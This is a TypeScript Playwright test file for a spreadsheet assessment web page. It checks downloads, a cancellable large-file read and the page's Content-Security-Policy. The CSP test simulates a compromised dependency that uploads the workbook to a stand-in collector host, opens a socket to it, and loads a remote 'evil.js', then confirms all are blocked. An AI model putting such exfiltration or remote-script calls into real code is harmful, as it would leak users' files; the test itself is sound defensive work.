import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { chromiumAvailable, launchBrowser } from "./support/browser";
import { serveFolder, type StaticServer } from "./support/static-server";
import { runAssess } from "../../src/cli/commands/assess";
import { fileSize } from "../../src/web/file-size";
import { benchFilesFor } from "../../scripts/bench/files";
import {
  changedParts,
  EDITED_PARTS,
  partsOf,
  partText,
} from "../workbook/xlsx-package/package-parts";

const ROOT = join(__dirname, "..", "..");
const DIST = join(ROOT, "dist");
const CLI = join(ROOT, "bin", "scorecard.cjs");
const ready = chromiumAvailable() && existsSync(join(DIST, "index.html"));
if (!ready && process.env.CI)
  throw new Error(`browser tests need ${"/usr/bin/chromium"} and a build in ${DIST}`);
const describeIfReady = ready ? describe : describe.skip;

const LABELS = {
  "zh-CN": {
    heading: "招商考核助手",
    assessTab: "考核",
    issuesTab: "校验",
    sheetsTab: "工作表",
    start: "开始考核",
    done: /考核完成/,
    download: "下载考核后的工作簿",
  },
} as const;

describeIfReady("standalone web page in chromium", () => {
  let browser: Browser;
  let server: StaticServer;
  let sample: string;
  let work: string;

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), "web-e2e-"));
    execFileSync(process.execPath, [CLI, "demo", "--out", work], { stdio: "ignore" });
    sample = join(work, "sample.xlsx");
    server = await serveFolder(DIST);
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  /** Opens the page and records every request that leaves the page's own origin. */
  async function openPage(
    locale: "zh-CN" | "en-US",
    width: number
  ): Promise<{ context: BrowserContext; page: Page; foreign: string[] }> {
    const context = await browser.newContext({
      locale,
      viewport: { width, height: 900 },
      acceptDownloads: true,
    });
    const page = await context.newPage();
    const foreign: string[] = [];
    page.on("request", (req) => {
      const url = req.url();
      if (!url.startsWith(server.url) && !url.startsWith("data:") && !url.startsWith("blob:"))
        foreign.push(url);
    });
    await page.goto(`${server.url}/index.html`);
    await page.waitForSelector("h1");
    return { context, page, foreign };
  }

  it("downloads, at the same clock, the very bytes the CLI writes: every part but the state sheet, where the page also keeps its settings", async () => {
    const now = new Date(Date.UTC(2008, 1, 3, 8, 30));
    const t = LABELS["zh-CN"];
    const context = await browser.newContext({
      locale: "zh-CN",
      viewport: { width: 1280, height: 900 },
      acceptDownloads: true,
    });
    await context.clock.setFixedTime(now);
    const page = await context.newPage();
    await page.goto(`${server.url}/index.html`);
    await watchCsp(page);
    await page.setInputFiles("input[type=file]", sample);
    await page.getByRole("tab", { name: t.assessTab }).click();
    await page.getByLabel("截至日期").fill("2008-01-31");
    await page.getByRole("button", { name: t.start }).click();
    await page.getByText(t.done).first().waitFor({ timeout: 60_000 });
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: t.download }).click(),
    ]);
    const fromPage = join(work, "from-page-clock.xlsx");
    await download.saveAs(fromPage);
    // The whole flow ran under the page's policy without a single violation.
    expect(await cspViolations(page)).toEqual([]);
    await context.close();

    const fromCli = join(work, "from-cli-clock.xlsx");
    const quiet = jest.spyOn(process.stdout, "write").mockImplementation(() => true);
    await runAssess([sample, "--as-of", "2008-01-31", "--out", fromCli], now).finally(() =>
      quiet.mockRestore()
    );
    const page_ = partsOf(readFileSync(fromPage));
    const cli = partsOf(readFileSync(fromCli));
    const state = partText(readFileSync(fromCli), "xl/_rels/workbook.xml.rels").match(
      /Target="(worksheets\/sheet\d+\.xml)"[^>]*\/>\s*<\/Relationships>/
    )?.[1];
    const differing = [...cli.keys()].filter(
      (name) => !Buffer.from(page_.get(name) ?? []).equals(Buffer.from(cli.get(name) ?? []))
    );
    expect(differing).toEqual([`xl/${state}`]);
    // Written into the file's own package in the browser too: every part of the sample but the four edited ones
    // comes back byte for byte.
    expect(changedParts(readFileSync(sample), readFileSync(fromPage)).sort()).toEqual(
      [...EDITED_PARTS].sort()
    );
  });

  it("opening a big ledger shows its size, the rows read so far and 取消, which leaves the page ready for another file", async () => {
    // The benchmark's deterministic 100,000-row 项目台账 (cached under the temp folder once written): several seconds
    // to read in the page, so the progress is there to be seen and cancelled.
    const big = (await benchFilesFor(100_000, 30)).ledger;
    const { context, page } = await openPage("zh-CN", 1280);
    const problems: string[] = [];
    page.on("console", (msg) => {
      if (msg.type() === "error") problems.push(msg.text());
    });
    page.on("pageerror", (e) => problems.push(e.message));

    await page.setInputFiles("input[type=file]", big);
    const bar = page.getByTestId("file-bar");
    // The size beside the name and in the reading line (正在读取“ledger.xlsx”（7.4 MB），已用 n 秒…).
    const size = fileSize(statSync(big).size);
    await bar.getByText(`正在读取“${basename(big)}”（${size}）`).waitFor({ timeout: 30_000 });
    await expect(bar.getByText(size, { exact: true }).isVisible()).resolves.toBe(true);
    const rowsRead = async (): Promise<number> => {
      const text = await bar.getByTestId("rows-read").innerText({ timeout: 30_000 });
      const n = /已读 ([\d,]+) 行/.exec(text)?.[1];
      if (!n) throw new Error(`no rows-read count in ${JSON.stringify(text)}`);
      return Number(n.replace(/,/g, ""));
    };
    await page.waitForFunction(
      () =>
        /已读 [1-9][\d,]* 行/.test(
          document.querySelector('[data-testid="rows-read"]')?.textContent ?? ""
        ),
      undefined,
      { timeout: 30_000 }
    );
    const first = await rowsRead();
    await page.waitForFunction(
      (n) => {
        const m = /已读 ([\d,]+) 行/.exec(
          document.querySelector('[data-testid="rows-read"]')?.textContent ?? ""
        );
        return m !== null && Number(m[1]?.replace(/,/g, "")) > n;
      },
      first,
      { timeout: 30_000 }
    );
    const second = await rowsRead();
    expect(second).toBeGreaterThan(first);
    expect(second).toBeLessThan(100_000);
    await expect(bar.getByRole("progressbar").isVisible()).resolves.toBe(true);

    await bar.getByRole("button", { name: "取消" }).click();
    const note = page.getByText(`已取消打开“${basename(big)}”。`);
    await note.waitFor();
    // Said as information, not as an error: Fluent names a message bar's intent only by its colours, and the info
    // bar is neutral grey where the error bar is red. The reading is gone and the page asks for a file again.
    const background = await note.evaluate(
      (el) => getComputedStyle(el.closest(".fui-MessageBar") ?? el).backgroundColor
    );
    expect(background).toMatch(/^rgb\((\d+), \1, \1\)$/);
    await expect(page.getByTestId("rows-read").count()).resolves.toBe(0);
    await expect(page.getByRole("button", { name: "取消" }).count()).resolves.toBe(0);

    await page.setInputFiles("input[type=file]", sample);
    // Read to the end: the file bar names it and offers its download instead of the reading line.
    const smallBar = page.getByTestId("file-bar");
    await smallBar.getByRole("button", { name: LABELS["zh-CN"].download }).waitFor();
    await expect(smallBar.getByText(basename(sample), { exact: true }).isVisible()).resolves.toBe(
      true
    );
    await expect(smallBar.getByTestId("rows-read").count()).resolves.toBe(0);
    await expect(note.count()).resolves.toBe(0);
    expect(problems).toEqual([]);
    await context.close();
  });

  it("runs under a Content-Security-Policy that refuses remote scripts and connections", async () => {
    // The page itself names the policy; the download test above ran its whole flow under it without a violation.
    const { context, page, foreign } = await openPage("zh-CN", 1280);
    await watchCsp(page);
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    expect(policy).toMatch(/default-src 'none'/);
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    expect(policy).toMatch(/connect-src 'self'(;|$)/);
    // No eval (page.evaluate itself is exempt, so this is checked on the policy; zod's own probe was refused
    // before zod-jitless.ts) and no inline scripts.
    expect(policy).not.toMatch(/unsafe-eval/);
    expect(policy?.match(/script-src[^;]*/)?.[0]).not.toMatch(/unsafe-inline/);

    // What a compromised dependency would try: upload the workbook, load a remote script, open a socket.
    const refused: string[] = [];
    page.on("requestfailed", (req) =>
      refused.push(`${req.url()} ${req.failure()?.errorText ?? ""}`)
    );
    const attempts = await page.evaluate(async () => {
      const outcome: Record<string, string> = {};
      try {
        await fetch("https://collector.example.com/upload", { method: "POST", body: "workbook" });
        outcome.fetch = "sent";
      } catch {
        outcome.fetch = "blocked";
      }
      try {
        const ws = new WebSocket("wss://collector.example.com/socket");
        outcome.socket = ws.readyState === WebSocket.CLOSED ? "blocked" : "opening";
      } catch {
        outcome.socket = "blocked";
      }
      const script = document.createElement("script");
      script.src = "https://cdn.example.com/evil.js";
      outcome.script = await new Promise<string>((resolve) => {
        script.onload = () => resolve("loaded");
        script.onerror = () => resolve("blocked");
        document.head.append(script);
      });
      const inline = document.createElement("script");
      inline.textContent = "window.inlineRan = true";
      document.head.append(inline);
      outcome.inline = (window as unknown as { inlineRan?: boolean }).inlineRan ? "ran" : "blocked";
      await new Promise((resolve) => setTimeout(resolve, 200));
      return outcome;
    });
    expect(attempts).toEqual({
      fetch: "blocked",
      socket: expect.stringMatching(/blocked|opening/),
      script: "blocked",
      inline: "blocked",
    });
    const violations = await cspViolations(page);
    for (const directive of [
      "connect-src https://collector.example.com/upload",
      "script-src-elem https://cdn.example.com/evil.js",
      "script-src-elem inline",
    ])
      expect(violations).toContain(directive);
    expect(violations.some((v) => v.startsWith("connect-src wss://collector.example.com"))).toBe(
      true
    );
    // Chromium announces the script request it then refuses; it never reaches the network.
    expect(foreign).toEqual(["https://cdn.example.com/evil.js"]);
    expect(refused).toEqual(["https://cdn.example.com/evil.js csp"]);
    await context.close();
  });
});

/** Records the page's Content-Security-Policy violations from now on. */
async function watchCsp(page: Page): Promise<void> {
  await page.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI}`)
    );
  });
}

function cspViolations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
}
